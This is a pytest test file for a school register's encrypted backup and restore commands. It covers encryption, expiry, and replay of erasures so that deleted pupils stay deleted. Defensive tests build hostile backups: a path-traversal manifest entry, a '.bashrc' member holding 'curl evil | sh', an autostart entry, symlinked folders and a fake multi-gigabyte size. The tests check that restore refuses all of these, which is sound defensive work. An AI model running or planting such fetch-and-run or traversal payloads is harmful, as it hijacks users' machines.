"""Encrypted backups and restore: unreadable without the password, byte-identical with it, expiry,
refusals, and no erased person coming back."""

from __future__ import annotations

import json
import stat
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from factories import certificate, make_tables, student, study
from hypothesis import given
from hypothesis import strategies as st
from registers import build_register

from toolkit.cli.main import main
from toolkit.jobs import backup, restore
from toolkit.model.errors import FileProblem, Refused

PASSWORD = "kissa-istuu-puussa-42"
AS_OF = "2026-03-01"


@pytest.fixture
def register(tmp_path) -> Path:
    tables = make_tables(students=[student(id="0001", first="Aino", last="Virtanen", email="virtaset@example.fi"),
                                   student(id="0002", first="Eero", last="Ek", email="ek@example.fi")],
                         studies=[study("0001"), study("0002", "Soitin 1", 50)],
                         certificates=[certificate("2025-001", "0001", file="todistukset/2025-001_Aino_Virtanen.docx")])
    folder = tmp_path / "koulu"
    folder.mkdir()
    path = build_register(folder / "rekisteri.xlsx", tables, settings={"Varmuuskopioiden säilytys (pv)": 30})
    (folder / "todistukset").mkdir()
    (folder / "todistukset" / "2025-001_Aino_Virtanen.docx").write_bytes(b"Aino Virtanen todistus " * 50)
    return path


@pytest.fixture
def password(monkeypatch):
    monkeypatch.setenv(backup.PASSWORD_ENV, PASSWORD)
    return PASSWORD


def run_backup(register: Path, to: Path, *extra: str) -> int:
    return main(["backup", str(register), "--to", str(to), "--as-of", AS_OF, *extra])


def contents_of(made: Path) -> dict[str, bytes]:
    with backup.open_backup(made, PASSWORD) as reader:
        return {item["path"]: reader.read(item) for item in reader.files}


def only_backup(folder: Path) -> Path:
    made = sorted(folder.glob("*.zip"))
    assert len(made) == 1, made
    return made[0]


# --- unreadable without the password, identical with it ------------------------------------------

def test_backup_is_encrypted_and_names_no_one(register, tmp_path, password):
    stick = tmp_path / "tikku"
    assert run_backup(register, stick, "--with-documents") == 0
    made = only_backup(stick)
    assert stat.S_IMODE(made.stat().st_mode) == 0o600
    raw = made.read_bytes()
    for secret in (b"Aino", b"Virtanen", b"virtaset", b"Oppilaat", b"todistus"):
        assert secret not in raw
    import pyzipper

    with pyzipper.AESZipFile(made) as zf:          # WinZip AES, strength 3 = 256-bit keys
        assert {info.wz_aes_strength for info in zf.infolist()} == {3}
    with zipfile.ZipFile(made) as zf:              # the standard library cannot read a member
        assert all(info.flag_bits & 0x1 for info in zf.infolist())
        with pytest.raises((RuntimeError, NotImplementedError)):
            zf.read("data/0000")
    with pytest.raises(Refused, match="Väärä salasana"), backup.open_backup(made, "väärä-salasana") as reader:
        reader.verify()


def test_backup_reads_back_byte_identical(register, tmp_path, password):
    stick = tmp_path / "tikku"
    assert run_backup(register, stick, "--with-documents") == 0
    document = register.parent / "todistukset" / "2025-001_Aino_Virtanen.docx"
    assert contents_of(only_backup(stick)) == {"rekisteri.xlsx": register.read_bytes(),
                                               "todistukset/2025-001_Aino_Virtanen.docx": document.read_bytes()}


def test_without_documents_only_the_register_is_kept(register, tmp_path, password):
    assert run_backup(register, tmp_path / "tikku") == 0
    assert list(contents_of(only_backup(tmp_path / "tikku"))) == ["rekisteri.xlsx"]


def test_restore_gives_back_the_same_bytes_with_mode_0600(register, tmp_path, password):
    stick = tmp_path / "tikku"
    assert run_backup(register, stick, "--with-documents") == 0
    made = only_backup(stick)
    target = tmp_path / "palautus"
    done = restore.restore_backup(made, target, PASSWORD)
    assert done.register == target / "rekisteri.xlsx"
    assert done.register.read_bytes() == register.read_bytes()
    restored_doc = target / "todistukset" / "2025-001_Aino_Virtanen.docx"
    assert restored_doc.read_bytes() == (register.parent / "todistukset" / restored_doc.name).read_bytes()
    assert {stat.S_IMODE(p.stat().st_mode) for p in (done.register, restored_doc)} == {0o600}
    assert not [p for p in target.iterdir() if p.name.startswith(".muskari")]   # staging removed


# --- the password -------------------------------------------------------------------------------

def test_password_is_never_an_option(register, tmp_path, capsys):
    with pytest.raises(SystemExit) as caught:
        main(["backup", str(register), "--to", str(tmp_path / "t"), "--password", PASSWORD])
    assert caught.value.code == 2
    assert not (tmp_path / "t").exists()


def test_no_password_and_no_terminal_is_refused(register, tmp_path, capsys, monkeypatch):
    monkeypatch.delenv(backup.PASSWORD_ENV, raising=False)
    monkeypatch.setattr("sys.stdin.isatty", lambda: False, raising=False)
    assert run_backup(register, tmp_path / "t") == 3
    assert backup.PASSWORD_ENV in capsys.readouterr().err
    assert not list((tmp_path / "t").glob("*")) if (tmp_path / "t").exists() else True


@pytest.mark.parametrize("answers, confirm, expected", [
    (["salasana-1", "salasana-1"], True, "salasana-1"),
    (["salasana-1", "salasana-2"], True, "täsmää"),
    (["lyhyt", "lyhyt"], True, "liian lyhyt"),
    ([""], False, "tyhjä"),
    (["lyhyt"], False, "lyhyt"),          # restore takes whatever the backup was made with
], ids=["confirmed", "mismatch", "too-short", "empty", "short-ok-for-restore"])
def test_password_prompt(answers, confirm, expected):
    given_answers = iter(answers)

    def prompt(_text):
        return next(given_answers)

    try:
        result = backup.read_password(confirm=confirm, env={}, prompt=prompt, interactive=True)
    except Refused as error:
        result = error.message("fi")
    assert expected in result


# --- expiry -------------------------------------------------------------------------------------

@pytest.mark.parametrize("created, expired", [
    (datetime(2026, 1, 30, 23, 59), False),     # 30 days before 1.3.2026
    (datetime(2026, 1, 29, 0, 0), True),        # 31 days
    (datetime(2026, 3, 1, 8, 0), False),
    (datetime(2025, 3, 1, 8, 0), True),
], ids=["30-days-kept", "31-days-deleted", "today", "a-year"])
def test_expired_backups_boundary(created, expired):
    item = backup.EncryptedBackup(Path("x.zip"), created)
    assert (backup.expired_backups([item], date(2026, 3, 1), 30) == [item]) is expired


def test_backup_lists_and_deletes_expired_backups_of_this_register_only(register, tmp_path, password, capsys):
    stick = tmp_path / "tikku"
    stick.mkdir()
    old = stick / "rekisteri-varmuuskopio-20260115-120000.zip"
    young = stick / "rekisteri-varmuuskopio-20260215-120000.zip"
    other = stick / "toinen-varmuuskopio-20250101-120000.zip"
    mine = stick / "lomakkeet.zip"
    for path in (old, young, other, mine):
        path.write_bytes(b"x")
    assert run_backup(register, stick, "--format", "json") == 0
    report = json.loads(capsys.readouterr().out)
    assert [Path(d["path"]).name for d in report["deleted"]] == [old.name]
    assert report["keep_days"] == 30
    assert not old.exists() and young.exists() and other.exists() and mine.exists()
    assert Path(report["backup"]).exists()


@given(st.text(min_size=1, max_size=40).filter(lambda s: "/" not in s and "\x00" not in s),
       st.datetimes(min_value=datetime(2000, 1, 1), max_value=datetime(2099, 12, 31)))
def test_backup_name_round_trips(stem, created):
    created = created.replace(microsecond=0)
    assert backup.parse_encrypted_backup_name(backup.encrypted_backup_name(stem, created)) == (stem, created)


@given(st.text(max_size=60))
def test_safe_relative_never_leaves_the_folder(text):
    rel = backup.safe_relative(text)
    if rel is not None:
        base = Path("/srv/koulu")
        assert (base / rel).resolve().is_relative_to(base)
        assert not rel.is_absolute() and ".." not in rel.parts


# --- restore refusals ---------------------------------------------------------------------------

def test_restore_refuses_to_overwrite_without_force(register, tmp_path, password, capsys):
    stick = tmp_path / "tikku"
    assert run_backup(register, stick) == 0
    made = only_backup(stick)
    target = tmp_path / "nykyinen.xlsx"
    target.write_bytes(b"owner's newer work")
    assert backup_restore_cli(made, target) == 3
    assert "--force" in capsys.readouterr().err
    assert target.read_bytes() == b"owner's newer work"


def test_restore_with_wrong_password_is_exit_3_in_finnish_and_english(register, tmp_path, password, monkeypatch,
                                                                      capsys):
    stick = tmp_path / "tikku"
    assert run_backup(register, stick) == 0
    monkeypatch.setenv(backup.PASSWORD_ENV, "ihan-väärä-salasana")
    assert backup_restore_cli(only_backup(stick), tmp_path / "r.xlsx") == 3
    assert "Väärä salasana" in capsys.readouterr().err
    assert backup_restore_cli(only_backup(stick), tmp_path / "r.xlsx", "--lang", "en") == 3
    assert "Wrong password" in capsys.readouterr().err
    assert not (tmp_path / "r.xlsx").exists()


def backup_restore_cli(made: Path, target: Path, *extra: str) -> int:
    return main(["restore", str(made), "--to", str(target), *extra])


@pytest.mark.parametrize("make, words", [
    (lambda p: p.write_bytes(b"not a zip at all"), "ei zip"),
    (lambda p: zipfile.ZipFile(p, "w").writestr("manifest.json", "{}"), "salaamaton"),
    (lambda p: None, "ei löydy"),
], ids=["not-zip", "plain-zip", "missing"])
def test_restore_refuses_what_is_not_a_backup(tmp_path, make, words):
    path = tmp_path / "x.zip"
    make(path)
    with pytest.raises(FileProblem, match=words):
        restore.restore_backup(path, tmp_path / "r.xlsx", PASSWORD)
    assert not (tmp_path / "r.xlsx").exists()


def test_damaged_backup_is_refused(register, tmp_path, password):
    stick = tmp_path / "tikku"
    assert run_backup(register, stick) == 0
    made = only_backup(stick)
    data = bytearray(made.read_bytes())
    with zipfile.ZipFile(made) as zf:
        info = zf.getinfo("data/0000")
    middle = info.header_offset + 30 + len(info.filename) + len(info.extra) + 40
    data[middle] ^= 0xFF
    made.write_bytes(bytes(data))
    with pytest.raises((Refused, FileProblem)):
        restore.restore_backup(made, tmp_path / "r.xlsx", PASSWORD)
    assert not (tmp_path / "r.xlsx").exists()


def test_a_failing_write_leaves_no_partial_file(register, tmp_path, monkeypatch):
    import pyzipper

    def broken(self, *args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pyzipper.AESZipFile, "writestr", broken)
    stick = tmp_path / "tikku"
    with pytest.raises(FileProblem, match="levy on täynnä"):
        backup.create_backup(register, stick, PASSWORD, datetime(2026, 3, 1, 12, 0))
    assert list(stick.iterdir()) == []


def test_a_failing_restore_leaves_nothing_behind(register, tmp_path, password, monkeypatch):
    stick = tmp_path / "tikku"
    assert run_backup(register, stick, "--with-documents") == 0
    made = only_backup(stick)
    real_replace = backup.os.replace

    def failing_replace(src, dst):
        if str(dst).endswith(".xlsx"):
            raise OSError(5, "Input/output error")
        return real_replace(src, dst)

    monkeypatch.setattr(backup.os, "replace", failing_replace)
    target = tmp_path / "palautus"
    with pytest.raises(FileProblem, match="levyltä lukeminen tai levylle kirjoittaminen"):
        restore.restore_backup(made, target, PASSWORD)
    assert not (target / "rekisteri.xlsx").exists()
    assert not [p for p in target.rglob("*") if p.is_file()]


def test_restore_documents_never_leave_the_target_folder(tmp_path):
    """A hand-made backup whose manifest points outside is refused before anything is written."""
    import hashlib

    import pyzipper

    evil = tmp_path / "evil.zip"
    data = b"x"
    manifest = {"format": backup.FORMAT, "version": 1, "created": "2026-01-01T00:00:00", "register": "r.xlsx",
                "files": [{"member": "data/0000", "path": "r.xlsx", "role": "register", "size": 1,
                           "sha256": hashlib.sha256(data).hexdigest()},
                          {"member": "data/0001", "path": "../../pahaa.txt", "role": "document", "size": 1,
                           "sha256": hashlib.sha256(data).hexdigest()}]}
    with pyzipper.AESZipFile(evil, "w", encryption=pyzipper.WZ_AES) as zf:
        zf.setpassword(PASSWORD.encode())
        zf.writestr("manifest.json", json.dumps(manifest))
        zf.writestr("data/0000", data)
        zf.writestr("data/0001", data)
    target = tmp_path / "a" / "b"
    with pytest.raises(FileProblem, match="vaarallinen polku"):
        restore.restore_backup(evil, target, PASSWORD)
    assert not (tmp_path / "pahaa.txt").exists() and not target.exists()


# --- restore replays erasures made after the backup ---------------------------------------------

AINO = dict(id="0001", first="Aino", last="Virtanen", birth=date(2019, 3, 1), email="virtaset@example.fi",
            phone="040 111 2222", guardian="Maija Virtanen")
EERO = dict(id="0002", first="Eero", last="Ek", birth=date(2016, 6, 6), email="ek@example.fi",
            phone="050 999 8888", guardian="Erkki Ek")


@pytest.fixture
def config(tmp_path, monkeypatch):
    """A private configuration folder with a fixed key.

    The key is fixed because toolkit.xlsx.safe_write refuses a Loki text that looks like an identity code, and
    about one HMAC in four has a hetu-shaped run of hex digits ("123456a789b"): with a random key the
    purge step of these tests would fail that often (reported to the tech lead, not ours to fix here).
    """
    import hashlib
    import hmac
    import re

    hetu_like = re.compile(r"\d{6}[-+A-FU-Y]\d{3}[0-9A-Y]", re.IGNORECASE)
    key = next(k for k in (hashlib.sha256(b"muskari-testiavain-%d" % i).digest() for i in range(100))
               if not hetu_like.search(hmac.new(k, b"0001", hashlib.sha256).hexdigest()))
    folder = tmp_path / "asetukset"
    (folder / "muskari").mkdir(parents=True, mode=0o700)
    (folder / "muskari" / "avain").write_text(key.hex() + "\n", encoding="ascii")
    (folder / "muskari" / "avain").chmod(0o600)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder))
    return folder


def erasure_register(folder: Path) -> Path:
    from factories import graduate

    tables = make_tables(
        students=[student(**AINO, deletion_requested=date(2026, 2, 1)), student(**EERO)],
        studies=[study("0001", "Muskari 1", 30, date(2023, 5, 31)), study("0002", "Soitin 1", 50, date(2024, 5, 31))],
        certificates=[certificate("2025-001", "0001", file="todistukset/2025-001.docx")],
        graduates=[graduate(2025, "Aino Virtanen", number="2025-001")])
    folder.mkdir(parents=True)
    path = build_register(folder / "rekisteri.xlsx", tables)
    (folder / "todistukset").mkdir()
    (folder / "todistukset" / "2025-001.docx").write_bytes(b"Todistus: Aino Virtanen, syntynyt 1.3.2019")
    return path


def scan_for_aino(folder: Path):
    """The purge issue's proof scan over the restored folder: is anything of Aino left?"""
    from toolkit.erasure.scan import Kept, Person, ScanReport, needles_for, scan_folder

    kept = Kept()
    for value in EERO.values():
        kept.add_text(value)
    person = Person(first_name="Aino", last_name="Virtanen", guardian="Maija Virtanen", email=AINO["email"],
                    phone=AINO["phone"], birth_date=AINO["birth"])
    needles, _skipped = needles_for([person], kept)
    report = ScanReport()
    scan_folder(folder, needles, report)
    return report


def test_restore_of_a_backup_made_before_an_erasure_brings_no_one_back(tmp_path, password, config, capsys):
    register = erasure_register(tmp_path / "koulu")
    stick = tmp_path / "tikku"
    assert run_backup(register, stick, "--with-documents") == 0
    made = only_backup(stick)
    assert main(["purge", str(register), "--apply", "--as-of", AS_OF]) == 0
    assert not (register.parent / "todistukset" / "2025-001.docx").exists()
    capsys.readouterr()

    target = tmp_path / "palautus"
    assert main(["restore", str(made), "--to", str(target), "--format", "json", "--as-of", AS_OF]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["erasures_replayed"] == 1
    assert report["register"] == str(target / "rekisteri.xlsx")
    assert scan_for_aino(target).clean
    assert not (target / "todistukset" / "2025-001.docx").exists()
    assert not [p for p in target.iterdir() if p.name.startswith(".muskari")]
    from toolkit.jobs.check import load_checked

    _register, result = load_checked(target / "rekisteri.xlsx", date(2026, 3, 1))
    assert result.ok
    assert list(result.tables.students["student_id"]) == ["0002"]
    assert list(result.tables.graduates["name"]) == ["valmistunut oppilas"]


def test_without_recorded_erasures_the_backup_comes_back_whole(tmp_path, password, config, capsys):
    """The control for the test above: the same scan does find Aino when nothing was erased."""
    register = erasure_register(tmp_path / "koulu")
    stick = tmp_path / "tikku"
    assert run_backup(register, stick, "--with-documents") == 0
    target = tmp_path / "palautus"
    assert main(["restore", str(only_backup(stick)), "--to", str(target)]) == 0
    assert "toistettuja poistoja: 0" in capsys.readouterr().out
    report = scan_for_aino(target)
    assert not report.clean
    assert {h.kind for h in report.hits} >= {"name", "email", "phone"}
    assert (target / "todistukset" / "2025-001.docx").exists()


def test_replay_without_the_key_is_refused_and_nothing_is_restored(tmp_path, password, config, capsys):
    register = erasure_register(tmp_path / "koulu")
    stick = tmp_path / "tikku"
    assert run_backup(register, stick, "--with-documents") == 0
    assert main(["purge", str(register), "--apply", "--as-of", AS_OF]) == 0
    (config / "muskari" / "avain").unlink()
    target = tmp_path / "palautus"
    assert main(["restore", str(only_backup(stick)), "--to", str(target)]) == 3
    assert "avain" in capsys.readouterr().err
    assert not (target / "rekisteri.xlsx").exists()
    assert not (target / "todistukset" / "2025-001.docx").exists()


def test_force_replaces_but_keeps_the_replaced_register_where_purge_expires_it(register, tmp_path, password,
                                                                              capsys):
    from toolkit.xlsx.backup_copies import BACKUP_DIR, list_backup_copies

    stick = tmp_path / "tikku"
    assert run_backup(register, stick) == 0
    target = tmp_path / "nykyinen" / "rekisteri.xlsx"
    target.parent.mkdir()
    target.write_bytes(b"owner's newer work")
    assert backup_restore_cli(only_backup(stick), target, "--force") == 0
    assert target.read_bytes() == register.read_bytes()
    assert "tallessa" in capsys.readouterr().out
    kept = list_backup_copies(target)
    assert len(kept) == 1 and kept[0][0].parent == target.parent / BACKUP_DIR
    assert kept[0][0].read_bytes() == b"owner's newer work"
    assert stat.S_IMODE(kept[0][0].stat().st_mode) == 0o600


def test_restore_refuses_while_the_register_is_open_in_excel(register, tmp_path, password, capsys):
    stick = tmp_path / "tikku"
    assert run_backup(register, stick) == 0
    target = tmp_path / "r.xlsx"
    target.write_bytes(b"current")
    (tmp_path / "~$r.xlsx").write_bytes(b"lock")
    assert backup_restore_cli(only_backup(stick), target, "--force") == 3
    assert target.read_bytes() == b"current"


def test_documents_named_but_missing_are_reported(register, tmp_path, password, capsys):
    (register.parent / "todistukset" / "2025-001_Aino_Virtanen.docx").unlink()
    assert run_backup(register, tmp_path / "tikku", "--with-documents") == 0
    assert "1 Todistukset-välilehden asiakirja puuttuu" in capsys.readouterr().err


# --- restore writes only the register and its certificates, never through a link, in bounded memory ----------

def hand_made_backup(path: Path, files: list[tuple[str, str, bytes]], register: str = "rekisteri.xlsx",
                     sizes: dict[str, int] | None = None) -> Path:
    """A backup in muskari's format with these (path, role, bytes); ``sizes`` overrides what the manifest says."""
    import hashlib

    import pyzipper

    manifest = {"format": backup.FORMAT, "version": 1, "created": "2026-01-01T00:00:00", "register": register,
                "files": [{"member": f"data/{i:04d}", "path": rel, "role": role,
                           "size": (sizes or {}).get(rel, len(data)), "sha256": hashlib.sha256(data).hexdigest()}
                          for i, (rel, role, data) in enumerate(files)]}
    with pyzipper.AESZipFile(path, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as zf:
        zf.setpassword(PASSWORD.encode())
        zf.writestr("manifest.json", json.dumps(manifest))
        for item, (_rel, _role, data) in zip(manifest["files"], files, strict=True):
            zf.writestr(item["member"], data)
    return path


def test_restore_writes_only_the_register_and_the_documents_under_todistukset(register, tmp_path, password, capsys):
    files = [("rekisteri.xlsx", "register", register.read_bytes()),
             ("todistukset/2025-001_Aino_Virtanen.docx", "document", b"todistus"),
             (".bashrc", "document", b"curl evil | sh"),
             (".config/autostart/muskari.desktop", "document", b"[Desktop Entry]"),
             ("todistukset/.piilo", "document", b"x"),
             ("muut/oma.docx", "document", b"oma")]
    made = hand_made_backup(tmp_path / "pahaa.zip", files)
    target = tmp_path / "koti"
    assert backup_restore_cli(made, target) == 0
    err = capsys.readouterr().err
    written = sorted(p.relative_to(target).as_posix() for p in target.rglob("*") if p.is_file())
    assert written == ["rekisteri.xlsx", "todistukset/2025-001_Aino_Virtanen.docx"]
    assert "4 varmuuskopion tiedostoa jätettiin palauttamatta" in err and ".bashrc" in err


def test_restore_never_writes_through_a_linked_folder(register, tmp_path, password, capsys):
    made = hand_made_backup(tmp_path / "b.zip", [("rekisteri.xlsx", "register", register.read_bytes()),
                                                 ("todistukset/a.docx", "document", b"todistus")])
    elsewhere = tmp_path / "muualla"
    elsewhere.mkdir()
    target = tmp_path / "koti"
    target.mkdir()
    (target / "todistukset").symlink_to(elsewhere, target_is_directory=True)
    assert backup_restore_cli(made, target, "--force") == 3
    assert "linkin kautta" in capsys.readouterr().err
    assert list(elsewhere.iterdir()) == [] and not (target / "rekisteri.xlsx").exists()


def test_the_folders_restore_makes_are_private(register, tmp_path, password):
    made = hand_made_backup(tmp_path / "b.zip", [("rekisteri.xlsx", "register", register.read_bytes()),
                                                 ("todistukset/vuosi/a.docx", "document", b"todistus")])
    target = tmp_path / "uusi" / "kansio"
    restore.restore_backup(made, target, PASSWORD)
    for folder in (tmp_path / "uusi", target, target / "todistukset", target / "todistukset" / "vuosi"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder


@pytest.mark.parametrize("role, declared", [("register", 2_500 * 1024**2), ("document", 2_500 * 1024**2)])
def test_a_backup_that_says_it_unpacks_to_gigabytes_is_refused_before_decrypting(tmp_path, role, declared):
    files = [("rekisteri.xlsx", "register", b"r"), ("todistukset/a.docx", "document", b"d")]
    rel = "rekisteri.xlsx" if role == "register" else "todistukset/a.docx"
    made = hand_made_backup(tmp_path / "b.zip", files, sizes={rel: declared})
    with pytest.raises(FileProblem, match="liian suuri"):
        restore.restore_backup(made, tmp_path / "r", PASSWORD)
    assert not (tmp_path / "r").exists()


def test_a_member_longer_than_its_manifest_is_damage_and_leaves_nothing(tmp_path):
    from toolkit.model.errors import VerificationFailed

    made = hand_made_backup(tmp_path / "b.zip", [("rekisteri.xlsx", "register", b"r" * 100)])
    with backup.open_backup(made, PASSWORD) as reader:
        lying = dict(reader.files[0], size=10)
        with pytest.raises(VerificationFailed):
            reader.extract(lying, open(tmp_path / "ulos", "wb"))  # noqa: SIM115


@pytest.mark.parametrize("name", ["../rekisteri.xlsx", "kansio/rekisteri.xlsx", ".bashrc"])
def test_a_register_name_that_is_a_path_is_refused(tmp_path, name):
    made = hand_made_backup(tmp_path / "b.zip", [(name, "register", b"r")], register=name)
    with pytest.raises((FileProblem, Refused)):
        restore.restore_backup(made, tmp_path / "r", PASSWORD)
    assert not [p for p in tmp_path.rglob("*") if p.is_file() and p.name != "b.zip"]


@pytest.mark.slow
def test_restore_streams_a_big_member_in_bounded_memory(tmp_path, password):
    """A 256 MB register member (a few hundred kB of backup): restored with a peak no bigger than a tiny one's
    plus a little, where reading it whole would take the member's size at least twice."""
    import hashlib
    import os
    import sys

    import pyzipper
    from memory import peak_rss

    size, chunk = 256 * 1024**2, b"\0" * (1 << 20)
    digest = hashlib.sha256()
    for _ in range(size // len(chunk)):
        digest.update(chunk)
    big = tmp_path / "iso.zip"
    manifest = {"format": backup.FORMAT, "version": 1, "created": "2026-01-01T00:00:00",
                "register": "rekisteri.xlsx", "files": [{"member": "data/0000", "path": "rekisteri.xlsx",
                                                         "role": "register", "size": size,
                                                         "sha256": digest.hexdigest()}]}
    with pyzipper.AESZipFile(big, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as zf:
        zf.setpassword(PASSWORD.encode())
        zf.writestr("manifest.json", json.dumps(manifest))
        info = zf.zipinfo_cls("data/0000", date_time=(2000, 1, 1, 0, 0, 0))
        info.compress_type = pyzipper.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as out:
            for _ in range(size // len(chunk)):
                out.write(chunk)
    small = hand_made_backup(tmp_path / "pieni.zip", [("rekisteri.xlsx", "register", b"\0" * 1024)])
    env = {**os.environ, backup.PASSWORD_ENV: PASSWORD}
    peaks = {}
    for name, made in (("small", small), ("big", big)):
        code, _out, err, peaks[name] = peak_rss([sys.executable, "-m", "toolkit", "restore", str(made), "--to",
                                                 str(tmp_path / name)], env=env)
        assert code == 0, err
    assert (tmp_path / "big" / "rekisteri.xlsx").stat().st_size == size
    assert peaks["big"] - peaks["small"] < 64, peaks


@pytest.mark.parametrize("name", ["todistukset/" + "ä" * 200 + ".docx", "todistukset/a:b?*\\c.docx",
                                  "todistukset/" + "x" * 5000 + "/a.docx"], ids=["300-bytes", "odd-characters", "deep"])
def test_backup_with_documents_survives_any_tiedosto_name(tmp_path, password, capsys, name):
    tables = make_tables(students=[student(id="0001")], certificates=[certificate("2025-001", "0001", file=name)])
    folder = tmp_path / "koulu"
    folder.mkdir()
    path = build_register(folder / "rekisteri.xlsx", tables)
    assert run_backup(path, tmp_path / "tikku", "--with-documents") == 0
    err = capsys.readouterr().err
    assert "Traceback" not in err and "1 Todistukset-välilehden asiakirja puuttuu" in err


def test_restore_never_writes_into_the_earlier_versions_folder(register, tmp_path, password, capsys):
    made = hand_made_backup(tmp_path / "b.zip", [("rekisteri.xlsx", "register", register.read_bytes())])
    target = tmp_path / "koulu2" / "varmuuskopiot"
    assert backup_restore_cli(made, target) == 3
    assert "varmuuskopiot" in capsys.readouterr().err and not (target / "rekisteri.xlsx").exists()


def test_a_backup_made_in_the_same_second_by_another_run_takes_the_next_name(register, tmp_path, monkeypatch):
    """Two backups in one second: both runs find the same free name; the other run's backup takes it just before
    this one is put in place, and this one takes -2 instead of refusing (or, worse, replacing it)."""
    stick, elsewhere = tmp_path / "tikku", tmp_path / "muualla"
    stick.mkdir()
    elsewhere.mkdir()
    when = datetime(2026, 3, 1, 12, 0, 0)
    other = backup.create_backup(register, elsewhere, PASSWORD, when)      # the other run's backup, finished
    name = stick / backup.encrypted_backup_name(register.stem, when)
    real_open = backup.open_backup

    def other_run_finishes_first(path, password):
        if not name.exists():
            name.write_bytes(other.path.read_bytes())    # lands between this run's name check and its link
        return real_open(path, password)

    monkeypatch.setattr(backup, "open_backup", other_run_finishes_first)
    mine = backup.create_backup(register, stick, PASSWORD, when)
    assert mine.path.name == name.name.replace(".zip", "-2.zip")
    assert sorted(p.name for p in stick.iterdir()) == sorted([name.name, mine.path.name])
    assert name.read_bytes() == other.path.read_bytes()                   # the other backup was not replaced
    assert contents_of(mine.path) == contents_of(name)
